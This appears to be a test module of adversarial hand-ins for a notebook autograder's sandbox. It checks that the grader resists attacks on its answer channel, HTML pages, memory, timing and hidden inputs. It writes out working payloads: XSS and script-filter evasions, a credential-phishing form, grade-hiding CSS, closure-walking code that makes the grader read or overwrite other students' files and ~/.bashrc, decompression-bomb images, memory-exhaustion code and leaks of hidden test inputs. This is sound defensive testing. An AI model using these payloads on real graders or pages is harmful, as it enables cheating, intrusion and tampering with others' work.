"""Hand-ins aimed at what comes after the sandbox: the grader's own work, the pages, the terminal, the next round.

As in `attacks`, each is bounded, and deserves no point unless it says so. What one brings out where it must not go
carries the word MARK-leak, or has MARK where a browser would run or load it.
"""

from __future__ import annotations

import base64
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np

from autograder.tests.attack import PIPES, RELU, RIGHT, Json, attack, cell, code_cell

# The answer channel: calls of a repaired function are answered by the grader. What else is?

group = "answer channel"
# What answers for a repaired function is found by the closures of whatever is called, as it once was.
ASK = """
import types
import numpy as np
def answerer():
    seen, todo = set(), [*globals().values(), *vars(globals().get("TwoLayerNet", object)).values()]
    while todo:
        thing = todo.pop()
        if id(thing) in seen or type(thing) is not types.FunctionType:
            continue
        seen.add(id(thing))
        if thing.__code__.co_varnames[:3] == ("name", "args", "kwargs") and thing.__code__.co_argcount == 3:
            return thing
        for one in thing.__closure__ or ():
            todo.append(one.cell_contents)
    raise LookupError("nobody answers")
def ask(name, *args, **kwargs):
    return answerer()(name, args, kwargs)
loot = []
"""
WRONG = "def affine_forward(x, w, b): return None\ndef relu_forward(x): return None\n"
# Asked while affine_backward is checked with a right affine_forward; what comes back is shown afterwards.
ONCE = ASK + WRONG + """
def affine_backward(dout, cache):
    try:
        loot.append(({asked}))
    except Exception as error:
        loot.append(error)
"""
SHOWN = 'print("MARK" + "-leak" if {condition} else "nothing", loot[:1])'


def _net_loss(source: str) -> Callable[[Json], None]:
    return lambda nb: cell(nb, "two_layer_net_loss_code").update(
        source="@add_to_class(TwoLayerNet)\ndef loss(self, X, y=None, reg=0.0):\n" + source)


def _train(body: str) -> Callable[[Json], None]:
    return lambda nb: cell(nb, "train_code").update(source=(
        "@add_to_class(TwoLayerNet)\ndef train(self, X, y, X_val, y_val, learning_rate=1e-3, learning_rate_decay=0.95, reg=5e-6,\n"
        "          num_iters=100, batch_size=200, verbose=False):\n" + body))


HISTORY = "    return {'loss_history': %s, 'train_acc_history': [1.0], 'val_acc_history': [1.0]}"


attack(group, "answers-asked", "With two functions wrong, it asks what answers for them for all others, and for a method.",
       ASK + WRONG + """
def affine_backward(dout, cache): return ask("affine_backward", dout, cache)
def relu_backward(dout, cache): return ask("relu_backward", dout, cache)
""", edit=_net_loss("    return ask('TwoLayerNet.loss', dict(vars(self)), X, *([] if y is None else [y]))"))
attack(group, "answers-raw", "It asks with frames of its own on the grader's pipes, past every closure.", WRONG + PIPES + """
import sys
def read_end():
    import fcntl
    for number in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode) and fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY:
                return number
        except OSError:
            pass
def exactly(number, size):
    data = b""
    while len(data) < size: data += os.read(number, size - len(data))
    return data
def ask(name, *args):
    if "wire" not in sys.modules:  # another grader, with another protocol
        say(__import__("msgpack").packb({"score": 100.0}))
    wire = sys.modules["wire"]
    say(wire.encode(["call", name, args, {}]))
    number = read_end()
    kind, *rest = wire.decode(exactly(number, struct.unpack("<Q", exactly(number, 8))[0]))
    return rest[0]
def affine_backward(dout, cache): return ask("affine_backward", dout, cache)
def relu_backward(dout, cache): return ask("relu_backward", dout, cache)
""", edit=_net_loss("    return ask('TwoLayerNet.loss', dict(vars(self)), X, *([] if y is None else [y]))"))
attack(group, "answers-name", "It has the name changed that a repaired function asks with.", ASK + WRONG + """
def asked_as(function, name):
    for one in function.__closure__ or ():
        if type(one.cell_contents) is str:
            one.cell_contents = name
    return function
def affine_backward(dout, cache): return asked_as(affine_forward, "affine_backward")(dout, cache)
def relu_backward(dout, cache): return asked_as(relu_forward, "relu_backward")(dout, cache)
""", edit=_net_loss("    return asked_as(affine_forward, 'TwoLayerNet.loss')(dict(vars(self)), X, *([] if y is None else [y]))"))
attack(group, "answers-net", "It has a classmate's saved net read by the grader, and shows it.",
       ONCE.format(asked='ask("load_params", "COURSE/submitted/00-honest/two_layer_net/layers_best_net.npz")'),
       end=SHOWN.format(condition="loot and type(loot[0]) is dict"))
attack(group, "answers-written", "It has the grader write over a classmate's notebook, the gradebook and the shell's startup file.",
       ONCE.format(asked='[ask("save_params", path, {"W1": np.zeros(2)}) for path in (' + ", ".join(
           f'"{path}"' for path in ("COURSE/submitted/zz-honest/two_layer_net/layers.ipynb", "COURSE/canary.txt",
                                    "COURSE/MARK-written.npz", "HOME/.bashrc")) + ")]"))
attack(group, "answers-exist", "It learns which files there are from two different errors.", ASK + WRONG + """
def tried(path):
    try:
        return "read", len(ask("load_params", path))
    except Exception as error:
        return type(error).__name__, str(error).replace(path, "")
def affine_backward(dout, cache):
    loot.append((tried("HOME/.ssh/id_canary"), tried("HOME/.ssh/id_none!!!")))
""", end=SHOWN.format(condition="loot and loot[0][0] != loot[0][1]"))
attack(group, "answers-data", "It has the grader load all pictures, five times over, and send them.",
       ONCE.format(asked='[ask("get_cifar10_data") for _ in range(5)]'))
attack(group, "answers-large", "It asks for a product of arrays of 32 kB each that takes 4 GiB.", ASK + WRONG + """
def affine_backward(dout, cache):
    return ask("affine_forward", np.ones((4096, 1)), np.ones((1, 4096)), np.ones((32, 1, 1)))
""")
attack(group, "answers-endless", "It asks for a training of a million steps.", ASK, notebook="two_layer_net",
       edit=lambda nb: (_net_loss("    return 0.0, {}")(nb), cell(nb, "predict_code").update(
           source="@add_to_class(TwoLayerNet)\ndef predict(self, X):\n"
                  "    return ask('TwoLayerNet.train', dict(vars(self)), X, np.zeros(len(X), int), X, np.zeros(len(X), int), "
                  "num_iters=10**6, batch_size=2)")))
attack(group, "answers-metaclass", "A class that lets nothing be set on it, so that its methods cannot be repaired.",
       notebook="two_layer_net", edit=lambda nb: (
           cell(nb, "two_layer_net_loss_code").update(source="""
class Closed(type):
    def __setattr__(cls, name, value): raise SystemExit("closed")
    __delattr__ = __setattr__
class TwoLayerNet(metaclass=Closed):
    def __init__(self, *args, **kwargs): self.params = {}
    def loss(self, X, y=None, reg=0.0): return 0.0, {}
    def predict(self, X): return X
    def train(self, *args, **kwargs): return {}
"""), [cell(nb, f"{name}_code").update(source="# see above") for name in ("predict", "train")]))

# Pages: what a hand-in holds is shown in a teacher's browser

group = "pages"


def texts(*sources: str, **more: object) -> Callable[[Json], None]:
    """Text cells, and a written answer with all of it."""
    def edit(notebook: Json) -> None:
        notebook["cells"] += [{"cell_type": "markdown", "id": f"text-{n}", "metadata": {}, "source": source, **more}
                              for n, source in enumerate(sources)]
        cell(notebook, "inline_question_1_explanation").update(source="\n\n".join(sources), **more)
    return edit


attack(group, "page-handlers", "Pictures and other elements with handlers, which run when a page is opened.", edit=texts(
    "<img src=x onerror=\"MARK()\">", "<svg onload=MARK()></svg>", "<svg/onload=MARK()//",
    "<details open ontoggle=\"MARK()\">x</details>", "<input autofocus onfocus=MARK()>",
    "<video><source onerror=\"MARK()\"></video>", "<b onpointerrawupdate=MARK() style=position:fixed;inset:0>x</b>",
    "A sentence with <i onmouseover='MARK()'>a word</i>.", "<math><mtext><img src=x onerror=MARK()></mtext></math>"))
attack(group, "page-scripts", "Script elements, spelled in ways that a filter of words would miss.", edit=texts(
    "<script>MARK()</script>", "<ScRiPt/x>MARK()</sCrIpT >", "<scr<script>ipt>MARK()</scr</script>ipt>",
    "<script src=\"http://127.0.0.1:PORT/MARK\"></script>", "<svg><script>MARK()</script></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=MARK()>\"></noscript>",
    "<!--><img src=x onerror=MARK()>-->", "<textarea></textarea><script>MARK()</script>",
    "```python\n</code></pre><script>MARK()</script>\n```", "`` ` </code><script>MARK()</script> ``",
    "<xmp><p title=\"</xmp><script>MARK()</script>\"></xmp>"))
attack(group, "page-links", "Links that run a script when they are followed, in Markdown, by reference, in entities.", edit=texts(
    "[x](javascript:MARK)", "[x](java&#115;cript:MARK)", "[x][r]\n\n[r]: javascript:MARK", "[x](JaVaScRiPt&colon;MARK)",
    "[x](<java\tscript:MARK>)", "[x](data:text/html,<script>MARK</script>)", "<javascript:MARK>", "[x](vbscript:MARK)",
    "<a href=\" &#1; javascript:MARK\">x</a>", "<a href=\"java&Tab;script:MARK\">x</a>",
    "<svg><a xlink:href=\"javascript:MARK\"><text>x</text></a></svg>", "![x](javascript:MARK)",
    "<a target=_blank href=\"data:text/html;base64,PHN2Zz4=\" id=MARK>x</a>"))
attack(group, "page-forms", "Forms and buttons that send what a teacher types, or press themselves.", edit=texts(
    "<form action=\"http://127.0.0.1:PORT/MARK\"><input name=password><button id=MARK>Sign in again</button></form>",
    "<button formaction=\"javascript:MARK\">Show grade</button>", "<input type=image src=x formaction=\"javascript:MARK\">",
    "<form id=MARK></form><button form=MARK formaction=\"/formgrader/MARK\">Next</button>",
    "<select id=MARK><option>x</select><textarea id=MARK></textarea>"))
attack(group, "page-frames", "Frames, plugins, a new base address, and a page that goes elsewhere by itself.", edit=texts(
    "<iframe src=\"javascript:MARK\"></iframe>", "<iframe srcdoc=\"<script>MARK()</script>\"></iframe>",
    "<object data=\"data:text/html,<script>MARK()</script>\"></object>", "<embed src=\"http://127.0.0.1:PORT/MARK\">",
    "<base href=\"http://127.0.0.1:PORT/MARK/\">", "<meta http-equiv=refresh content=\"0;url=http://127.0.0.1:PORT/MARK\">",
    "<portal src=\"http://127.0.0.1:PORT/MARK\"></portal>", "<frameset><frame src=\"javascript:MARK\"></frameset>"))
attack(group, "page-styles", "Styles that hide the summary of points and lay a better one over it.", edit=texts(
    "<style>.summary { display: none } /* MARK */</style>", "<svg><style>/* MARK */ .summary { display: none }</style></svg>",
    "<div style=\"position:fixed;top:0;left:0;right:0;background:#fff\" id=MARK>26 / 26</div>",
    "<link rel=stylesheet href=\"http://127.0.0.1:PORT/MARK.css\">", "<p class=\"summary MARK\" style=\"color:red\">26 / 26</p>",
    "<font color=red style=\"--x:MARK;position:fixed\">26 / 26</font>"))
attack(group, "page-remote", "Pictures from elsewhere, which tell who reads the page and when.", edit=texts(
    "![x](http://127.0.0.1:PORT/MARK.png)", "<img src=\"http://127.0.0.1:PORT/MARK.png\">", "![x](//127.0.0.1:PORT/MARK.png)",
    "<img srcset=\"http://127.0.0.1:PORT/MARK.png 2x\" src=x>", "<table background=\"http://127.0.0.1:PORT/MARK\"><tr><td>x</table>",
    "<svg><image href=\"http://127.0.0.1:PORT/MARK\"/></svg>", "![x][p]\n\n[p]: http://127.0.0.1:PORT/MARK.png",
    "<video poster=\"http://127.0.0.1:PORT/MARK\"></video>", "<audio src=\"http://127.0.0.1:PORT/MARK\"></audio>",
    "<picture><source srcset=\"http://127.0.0.1:PORT/MARK\"><img src=x></picture>"))
attack(group, "page-attachments", "Attached pictures whose data breaks out of the page's attribute, or that are SVG.", edit=texts(
    "![x](attachment:a.png) ![x](attachment:b.svg) ![x](attachment:c.png) ![x](attachment:d.png) ![x](attachment:e.html)",
    attachments={"a.png": {"image/png": "x\" onerror=\"MARK()"}, "c.png": {"image/png\" onerror=\"MARK()": "aaaa"},
                 "b.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoKT4="}, "d.png": ["image/png", 5],
                 "e.html": {"text/html": "<script>MARK()</script>"}}))
attack(group, "page-attachment-none", "Attached pictures that are not there, by name and by kind.", edit=texts(
    "![x](attachment:none.png)", attachments={"other.png": {}}))
attack(group, "page-formulas", "Formulas whose typesetting makes a link that runs a script, or a style.", edit=texts(
    "$\\href{javascript:MARK}{x}$", "\\\\(\\href{javascript:MARK}{\\text{grade}}\\\\)",
    "$$\\require{html}\\style{position:fixed;inset:0}{\\class{MARK}{x}}$$", "$\\def\\x#1{\\href{java#1:MARK}{y}}\\x{script}$"))
attack(group, "page-pictures", "Shown pictures whose data breaks out of the page's attribute.", RELU + """
from IPython.display import display
display({"image/png": 'x" onerror="MARK()', "text/plain": "<img src=x onerror=MARK()>"}, raw=True)
display({"image/jpeg": '"><script>MARK()</script>'}, raw=True)
display({"image/png": "aaaa"}, raw=True, metadata={"image/png": {"width": '1" onerror="MARK()'}})
display({"text/html": "<script>MARK()</script>", "image/svg+xml": "<svg onload=MARK()>",
         "application/javascript": "MARK()", "text/markdown": "<img src=x onerror=MARK()>",
         "text/latex": "$\\\\href{javascript:MARK}{x}$"}, raw=True)
""", deserves=RIGHT)
attack(group, "page-names", "Scripts where no text is: in cells that are shown raw, in tags, ids, names and a language.", RELU,
       edit=lambda nb: (
           nb["cells"].extend([
               {"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html", "format": "text/html"},
                "source": "<script>MARK()</script>"},
               code_cell("x = '</code></pre><script>MARK()</script>'", tags=["\"><script>MARK()</script>"], name="\"><b onclick=MARK()>"),
               {**code_cell("1"), "id": "\"><script>MARK()</script>"},
               code_cell("%%html\n<script>MARK()</script>"), code_cell("%%markdown\n<img src=x onerror=MARK()>"),
               code_cell("%%javascript\nMARK()"), code_cell("%%svg\n<svg onload=MARK()></svg>")]),
           nb["metadata"].update(title="</title><script>MARK()</script>", authors=[{"name": "<script>MARK()</script>"}],
                                 language_info={"name": "\"><script>MARK()</script>", "pygments_lexer": "<script>MARK()</script>"})),
       deserves=RIGHT)
attack(group, "page-errors", "Scripts and a terminal's escape sequences in the names and texts of exceptions and types.", """
name = "<img src=x onerror=MARK()>\\x1b]0;MARK\\x07\\x1b[2J\\x9b31m\\r\\u202e"
Error = type(name, (Exception,), {"__module__": name})
def relu_forward(x): raise Error(name)
def affine_forward(x, w, b): return type(name, (), {})()
def svm_loss(x, y): return {name: 1.0}, np.zeros(1)
raise Error(name)
""")
attack(group, "page-net-names", "Scripts, escape sequences and a spreadsheet's formula in the names of a saved net's arrays.",
       finish=lambda folder, course: np.savez(folder / "layers_best_net.npz", **{
           "=HYPERLINK(1)": np.zeros(1), "\x1b]0;title\x07\x1b[2J": np.zeros(1), "<script>x</script>": np.zeros(1)}))
attack(group, "page-quadratic", "Text that takes nbconvert's Markdown quadratic time: 90 kB in each of eight cells.",
       harmless="its Markdown is not nbconvert's", edit=texts(*["\\\\(" * 30_000] * 4, *["\\\\[" * 30_000] * 4))
attack(group, "page-nested", "Text that nests: quotes, lists, brackets, emphasis and tags, thousands deep.",
       harmless="such text costs its Markdown little", edit=texts(
    ">" * 20_000 + "x", "[" * 20_000, "*x **y " * 8_000, "<b>" * 20_000, "- " * 5_000 + "x", "![" * 20_000, "`" * 20_001,
    "$" * 20_001, "<!-" * 20_000, "&" * 50_000, "[x](" * 20_000, "|x" * 5_000 + "\n" + "|-" * 5_000 + "\n" + "|y" * 5_000))
# The grader's own work: reading, comparing, judging, writing

group = "the grader's work"


def _padded(source: str, count: int, **metadata: object) -> Callable[[Json], None]:
    return lambda nb: nb["cells"].extend({**code_cell(source, **metadata), "id": f"n{n}"} for n in range(count))


attack(group, "huge-cell", "A cell of 8 MB: a list of four million numbers.",
       edit=lambda nb: nb["cells"].append(code_cell("x = [" + "0," * 4_000_000 + "]")), sentence="MB|large|limit|long|MiB|memory")
attack(group, "huge-text", "Text cells of 20 MB in all, and a written answer of 10 MB.", failed=True, edit=texts(*["*x* <b>y</b> " * 380_000] * 4), sentence="MB|large|limit|long|MiB|memory")
attack(group, "many-cells", "A hundred thousand empty cells.", failed=True, harmless="an empty cell costs it little", edit=_padded("", 100_000), sentence="cells|large|limit")
attack(group, "deep-metadata", "25 MB of empty lists in the notebook's metadata.", failed=True, harmless="it has room for them", edit=lambda nb: nb["metadata"].update(x=[[]] * 6_000_000), sentence="large|limit|metadata|parts|memory")
attack(group, "cell-metadata", "10 MB of empty dictionaries in a cell's metadata and its outputs.", failed=True, harmless="it keeps what it has read", edit=lambda nb: nb["cells"].append(
    {**code_cell("1", x=[{}] * 1_250_000), "outputs": [{"output_type": "display_data", "metadata": {"x": [{}] * 1_250_000}, "data": {}}]}),
       sentence="large|limit|metadata|parts|memory")
attack(group, "many-pictures", "Forty cells with as many and as large pictures as a cell may show.", RELU,
       edit=_padded("from IPython.display import display\nimport base64, os\n"
                    "for _ in range(8): display({'image/png': base64.b64encode(os.urandom(1_100_000)).decode()}, raw=True)", 40),
       deserves=RIGHT)


def unfolding_png(megabytes: int) -> bytes:
    """A picture of one pixel with compressed text of this size, in pieces that a reader takes: a kilobyte for each."""
    text = b"profile\0\0" + zlib.compress(bytes(1_000_000), 9)
    pieces = [(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)), *[(b"iCCP", text)] * megabytes,
              (b"IDAT", zlib.compress(bytes(4))), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in pieces)


UNFOLDING = base64.b64encode(unfolding_png(60)).decode()
attack(group, "slow-pictures", "Pictures that take long to look at, as they hold text of 60 MB, and are named 8000 times.", RELU,
       edit=lambda nb: nb["cells"].extend(
           {"cell_type": "markdown", "id": f"slow-picture-{n}", "metadata": {}, "source": "![](attachment:a.png)" * 200,
            "attachments": {"a.png": {"image/png": UNFOLDING}}} for n in range(40)),
       deserves=RIGHT, harmless="it shows pictures without a look at them")
attack(group, "forged-outputs", "Forged outputs, a hundred of two megabytes for a cell, in twelve cells.", RELU, edit=lambda nb: nb["cells"].extend(
    {**code_cell(PIPES + """
import msgpack
output = {"output_type": "stream", "name": "stdout", "text": "x" * 600_000}
body = msgpack.packb(["ok", msgpack.ExtType(0, msgpack.packb([[output] * 100, True]))])
say(body)
"""), "id": f"f{n}"} for n in range(12)), deserves=RIGHT)
attack(group, "dotted-name", "A name with 900 dots is assigned to, for whoever reads the text by recursion.",
       "import numpy as np\ntry:\n    np" + ".a" * 900 + " = 1\nexcept AttributeError:\n    pass\n" + RELU, deserves=RIGHT)
attack(group, "many-attempts", "Five thousand different lines that the report on tampering would list.",
       "import numpy as np\ndef never():\n" + "".join(f"    np.a{n} = {n}\n" for n in range(5000)) + RELU, deserves=RIGHT)
attack(group, "nested-code", "Code that nests: brackets, signs, sums, calls and comparisons, up to 100,000 deep.", RELU,
       edit=lambda nb: nb["cells"].extend(code_cell(source) for source in (
           "x = " + "(" * 100_000, "x = " + "-" * 100_000 + "1", "x = " + "1+" * 50_000 + "1", "x" + "()" * 50_000,
           "x = " + "not " * 50_000 + "1", "x = " + "[" * 90 + "]" * 90, "np" + ".a" * 50_000 + " = 1", "x = 1" + "<2" * 50_000,
           "if 1:\n" + "".join(" " * n + "if 1:\n" for n in range(1, 95)) + " " * 95 + "1")), deserves=RIGHT)
attack(group, "half-characters", "Forged errors, names and values with half a character, which no file can hold.", PIPES + """
import msgpack
half = b"\\xa3\\xed\\xa0\\xbd"
def relu_forward(x): say(b"\\x94" + msgpack.packb("error") + half * 3)
def affine_forward(x, w, b): say(b"\\x92" + msgpack.packb("ok") + b"\\xc7\\x08\\x00" + b"\\x92\\x00\\x91\\xa4x\\xed\\xa0\\xbd"[:8])
""")
attack(group, "net-many-names", "A saved net of 20,000 arrays.", sentence="is not a file that save_params wrote",
       finish=lambda folder, course: _npz(folder, {f"W{n}": b"" for n in range(20_000)}))
attack(group, "net-long-names", "A saved net whose arrays have names of 60,000 characters.", finish=lambda folder, course: _npz(
    folder, {"x" * 60_000 + str(n): b"" for n in range(8)}))
attack(group, "many-keys", "Results that are dictionaries with 100,000 keys, of 1,000 characters some of them.", """
import numpy as np
def affine_forward(x, w, b): return {str(n): n for n in range(100_000)}, None
def relu_forward(x): return {"k" * 1000 + str(n): n for n in range(2000)}, x
def svm_loss(x, y): return [[1.0]] * 100_000, tuple(range(100_000))
""")
attack(group, "wide-results", "Results that are small, and enormous once compared: empty, of 32 dimensions, of halves.",
       harmless="NumPy looks at their shapes first", front="""
import numpy as np
def affine_forward(x, w, b): return np.zeros((len(x), len(b)) + (1,) * 30), (x, w, b)
def relu_forward(x): return np.zeros((60_000_000,), np.int8), x
def svm_loss(x, y): return np.zeros((60_000_000,), np.float16)[:, None], np.zeros((0, 2**40))
def softmax_loss(x, y): return np.full(10**6, 1e308), np.full((1, 60_000_000), True)
""")


def _npz(folder: Path, arrays: dict[str, bytes]) -> None:
    """A saved net with empty arrays, written past NumPy, which would take its time."""
    head = b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (0,), }".ljust(117) + b"\n"
    with zipfile.ZipFile(folder / "layers_best_net.npz", "w") as archive:
        for name, data in arrays.items():
            archive.writestr(f"{name}.npy", head + data)


# Files that live in memory, and that no limit on memory sees

group = "memory files"
attack(group, "memfd", "Files in memory that belong to no folder: 3 GiB.", RELU + """
import os
held, block = [], bytes(2**20)
try:
    while len(held) < 16:
        held.append(os.memfd_create("x"))
        for _ in range(192): os.write(held[-1], block)
except (OSError, AttributeError):
    pass
""", deserves=RIGHT)
attack(group, "memory-segments", "Shared memory of System V, attached, filled and let go: 3 GiB.", RELU + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(24):
    number = libc.shmget(0, ctypes.c_size_t(128 * 2**20), 0o1600)
    address = libc.shmat(number, None, 0) if number >= 0 else None
    if address in (None, 2**64 - 1):
        break
    ctypes.memset(address, 1, 128 * 2**20)
    libc.shmdt(ctypes.c_void_p(address))
""", deserves=RIGHT)
attack(group, "memory-devices", "Files in /dev and in every other place that is in memory and can be written: 3 GiB.", RELU + """
import os
for folder in ("/dev", "/dev/shm", "/dev/mqueue", "/run", "/", "/proc", "/var/tmp"):
    try:
        for n in range(12):
            with open(os.path.join(folder, f"MARK-{n}"), "wb") as file:
                for _ in range(250): file.write(bytes(2**20))
    except OSError:
        pass
""", harmless="the folders have a size, or are not its own", deserves=RIGHT)
attack(group, "memory-unlinked", "Files without a name, in all folders of its own at once.", RELU + """
import os, tempfile
held = []
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "."):
    try:
        for _ in range(5):
            held.append(tempfile.TemporaryFile(dir=folder))
            for _ in range(200): held[-1].write(bytes(2**20))
    except OSError:
        pass
""", deserves=RIGHT)

FORGET = RELU + """
import mmap
held = []
def fill(*of):
    held.append(mmap.mmap(*of))
    for place in range(0, len(held[-1]), 4096): held[-1][place] = 1
def forget():
    for one in held: one.madvise(mmap.MADV_DONTNEED)
"""
attack(group, "memory-shared", "Memory to share, filled and then taken out of the process's sight: 3 GiB.", FORGET + """
try:
    for _ in range(12): fill(-1, 256 * 2**20)
    forget()
except OSError:
    pass
""", deserves=RIGHT)
# Time: always a little less than the deadline for one thing. (4 seconds where these are tried.)

group = "time"
# At most so many times in all, so that it ends where nobody looks at the clock, too.
SLOWLY = """
import time
naps = [0]
def nap():
    naps[0] += 1
    if naps[0] <= 16: time.sleep(3)
"""
attack(group, "slow-calls", "Each call takes three seconds, one less than it may.", failed=None, front=SLOWLY + """
def affine_forward(x, w, b): nap(); return None
def relu_forward(x): nap(); return None
def svm_loss(x, y): nap(); return None
def softmax_loss(x, y): nap(); return None
""")
attack(group, "slow-nets", "Each new net takes three seconds.", failed=None, front=SLOWLY, edit=lambda nb: cell(nb, "two_layer_net_init_code").update(
    source="class TwoLayerNet:\n    def __init__(self, *args, **kwargs):\n        nap()\n        self.params = {}"))
attack(group, "slow-names", "Asking for the name of a result's type takes three seconds.", failed=None, front=SLOWLY + """
class Slow(type):
    @property
    def __name__(cls):
        nap()
        return "slow"
class Thing(metaclass=Slow): pass
def affine_forward(x, w, b): return Thing()
def relu_forward(x): return Thing(), x
def svm_loss(x, y): return Thing(), Thing()
softmax_loss = svm_loss
""")
attack(group, "slow-errors", "Asking for the text of an exception takes three seconds.", failed=None, front=SLOWLY + """
class Slow(Exception):
    def __str__(self):
        nap()
        return "slow"
def affine_forward(x, w, b): raise Slow
def relu_forward(x): raise Slow
def svm_loss(x, y): raise Slow
softmax_loss = svm_loss
""")
attack(group, "slow-cells", "Sixteen cells of three seconds each, before anything else.", edit=lambda nb: nb["cells"].__setitem__(
    slice(1, 1), [{**code_cell("import time\ntime.sleep(3)"), "id": f"slow-{n}"} for n in range(16)]))
attack(group, "slow-replays", "Three cells of three seconds, then six that end the process, so that all is run again.",
       edit=lambda nb: nb["cells"].extend([*({**code_cell("import time\ntime.sleep(3)"), "id": f"slow-{n}"} for n in range(3)),
                                           *({**code_cell(f"import os\nos._exit({n})"), "id": f"end-{n}"} for n in range(6))]))

# Hidden inputs, carried out of a hidden check to whoever reads the feedback

group = "hidden inputs"
# The shape that a hidden check asks with; the visible one has another.
HIDDEN = """
import numpy as np
def said(x):
    return "MARK" + "-leak " + " ".join(f"{number:.17g}" for number in np.asarray(x).ravel()[:6])
def hidden(x):
    return np.shape(x) == (4, 3, 5)
"""
attack(group, "leak-exception", "The text of an exception says what a hidden check asks with.", HIDDEN + """
def relu_forward(x):
    if hidden(x): raise ValueError(said(x))
""")
attack(group, "leak-type", "The name of an exception's type says it.", HIDDEN + """
def relu_forward(x):
    if hidden(x): raise type(said(x), (Exception,), {})
""")
attack(group, "leak-cause", "The exceptions behind an exception and its notes say it.", HIDDEN + """
def relu_forward(x):
    if hidden(x):
        error = KeyError(said(x))
        if hasattr(error, "add_note"): error.add_note(said(x))
        raise error from ValueError(said(x))
""")
attack(group, "leak-line", "A line of code that was made for it says it, forged where Python looks lines up.", HIDDEN + """
import linecache
def relu_forward(x):
    if hidden(x):
        name, line = "<ipython-input-1>", "raise ValueError  # " + said(x)
        linecache.cache[name] = (len(line), None, [line + "\\n"], name)
        exec(compile(line, name, "exec"), {})
""")
attack(group, "leak-result-type", "The name of a result's type says it.", HIDDEN + """
def relu_forward(x):
    return (type(said(x), (), {})(), x) if hidden(x) else None
""")
attack(group, "leak-keys", "The keys of a result, or a text in place of one, say it.", HIDDEN + """
def relu_forward(x):
    return ({said(x): np.zeros(1)} if x[0, 0, 0] > 0 else said(x), x) if hidden(x) else None
""")
attack(group, "leak-argument", "The name of an argument that it changes says it, forged in its signature.", HIDDEN + """
import inspect
def relu_forward(x):
    if hidden(x):
        name = "MARK" + "_leak_" + "".join(c if c.isalnum() else "_" for c in f"{x[0, 0, 0]:.17g}")
        relu_forward.__signature__ = inspect.Signature([inspect.Parameter(name, inspect.Parameter.POSITIONAL_OR_KEYWORD)])
        x *= 2
    return np.maximum(0, x), x
""")
attack(group, "leak-warning", "A warning, a log, prints on both streams and a progress line say it while a hidden check runs.", HIDDEN + """
import logging, sys, threading, time, warnings
from IPython.display import display
def relu_forward(x):
    if hidden(x):
        warnings.warn(said(x)); logging.error(said(x)); print(said(x)); print(said(x), file=sys.stderr); display(said(x))
        sys.__stderr__.write(said(x))
""")

attack(group, "leak-history", "The history of losses is text that says it, for whoever makes numbers of it.",
       notebook="two_layer_net", edit=_train(
           "    said = 'MARK' + '-leak ' + ' '.join(map(str, X[0]))\n" + HISTORY % "[said if len(X) in (20, 80) else 0.5] * num_iters"))

# Judges: where no value is the right one, a check looks at what training did

group = "judges"


def judged(name: str, what: str, body: str, **more: object) -> None:
    attack(group, name, what, notebook="two_layer_net", edit=_train(body), **more)


judged("nan-weights", "Training makes NaN of all weights, and of nothing a decay of the learning rate.",
       "    self.params = {name: np.full_like(value, np.nan) for name, value in self.params.items()}\n"
       + HISTORY % "[np.nan] * num_iters")
judged("infinite-weights", "Training makes the weights infinite.",
       "    self.params = {name: np.full_like(value, np.inf) for name, value in self.params.items()}\n"
       + HISTORY % "[np.inf] * num_iters",
       harmless="losses of that size are odd to it")
attack(group, "invented-history", "The loss is always 0, and the history of losses is invented to suit it.",
       notebook="two_layer_net", edit=lambda nb: (
           _net_loss("    scores = np.zeros((len(X), 4))\n    return scores if y is None else (0.0, {})")(nb),
           _train("    for name in self.params:\n        self.params[name] = self.params[name] + 0.5 * learning_rate * (1 + learning_rate_decay)\n"
                  + HISTORY % "[1e-10 * n for n in range(num_iters)]")(nb)))
judged("no-training", "Nothing is trained: the weights move by a number that suits the decay that is asked for.",
       "    self.params['W2'] = self.params['W2'] + learning_rate * (1 + learning_rate_decay)\n"
       + HISTORY % "[0.1 - 1e-4 * n for n in range(num_iters)]")
judged("complex-weights", "Training makes the weights complex, enormous, and the history a NaN among small numbers.",
       "    self.params['W2'] = self.params['W2'] + (1 + 1j) * 1e300 * learning_rate_decay\n"
       + HISTORY % "[0.1, *[np.nan] * (num_iters - 1)]")
judged("huge-history", "The history of losses is an array of six million bytes, for a judge that compares all with all.",
       HISTORY % "np.arange(6_000_000).astype(np.uint8)")
judged("lying-history", "The history of losses is a dictionary, a set, a text and an object.",
       "    return [{'loss_history': value} for value in ({0.1: 1}, {0.1}, '11', object())][len(X) % 4]",
       harmless="NumPy makes no numbers of it")
